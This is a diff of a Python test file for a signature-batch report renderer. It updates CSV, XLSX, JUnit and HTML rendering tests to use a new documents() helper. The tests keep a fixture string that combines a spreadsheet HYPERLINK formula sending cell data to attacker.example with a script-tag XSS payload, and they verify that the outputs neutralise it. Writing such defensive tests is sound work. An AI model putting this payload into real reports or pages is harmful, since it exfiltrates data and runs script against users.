@@ -15,6 +15,7 @@ from tests.conftest import FIXTURES
 from tests.helpers import check
 from vnsign.batch.ledger import LedgerRow
 from vnsign.render.batch_report import format_for, render
+from vnsign.render.batch_rows import documents
 
 EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")\x07<script>alert(1)</script>'
 
@@ -44,7 +45,7 @@ def test_formats_by_extension() -> None:
 
 
 def test_csv_cells_are_never_formulas(rows: list[LedgerRow]) -> None:
-    data = render("csv", rows, lang="en").decode("utf-8-sig")
+    data = render("csv", documents(rows), lang="en").decode("utf-8-sig")
     parsed = list(csv.DictReader(io.StringIO(data)))
     evil = next(r for r in parsed if r["path"].endswith("evil</b>.pdf"))
     assert evil["signer"].startswith("'=HYPERLINK")
@@ -54,7 +55,7 @@ def test_xlsx_cells_are_text(rows: list[LedgerRow], tmp_path: Path) -> None:
     from openpyxl import load_workbook
 
     target = tmp_path / "r.xlsx"
-    target.write_bytes(render("xlsx", rows, lang="vi"))
+    target.write_bytes(render("xlsx", documents(rows), lang="vi"))
     wb = load_workbook(target)
     assert wb.sheetnames == ["Văn bản", "Chữ ký số", "Tổng hợp"]
     sheet = wb["Chữ ký số"]
@@ -67,16 +68,17 @@ def test_xlsx_cells_are_text(rows: list[LedgerRow], tmp_path: Path) -> None:
 
 
 def test_junit_survives_control_characters(rows: list[LedgerRow]) -> None:
-    from vnsign.batch.gate import CiPolicy, FailOn
+    from vnsign.gate import CiPolicy, FailOn
 
-    xml = render("junit", rows, lang="en", ci=CiPolicy(fail_on=FailOn.WARNING))
+    xml = render("junit", documents(rows, CiPolicy(fail_on=FailOn.WARNING)), lang="en",
+                 ci=CiPolicy(fail_on=FailOn.WARNING))
     root = ET.fromstring(xml)
     cases = root.findall("./testsuite/testcase")
     assert len(cases) == 2 and all(c.get("classname") for c in cases)
 
 
 def test_html_escapes_everything_and_allows_no_network(rows: list[LedgerRow]) -> None:
-    page = render("html", rows, lang="en").decode("utf-8")
+    page = render("html", documents(rows), lang="en").decode("utf-8")
     assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)" in page
     assert "<b>evil</b>" not in page
     assert "default-src 'none'" in page
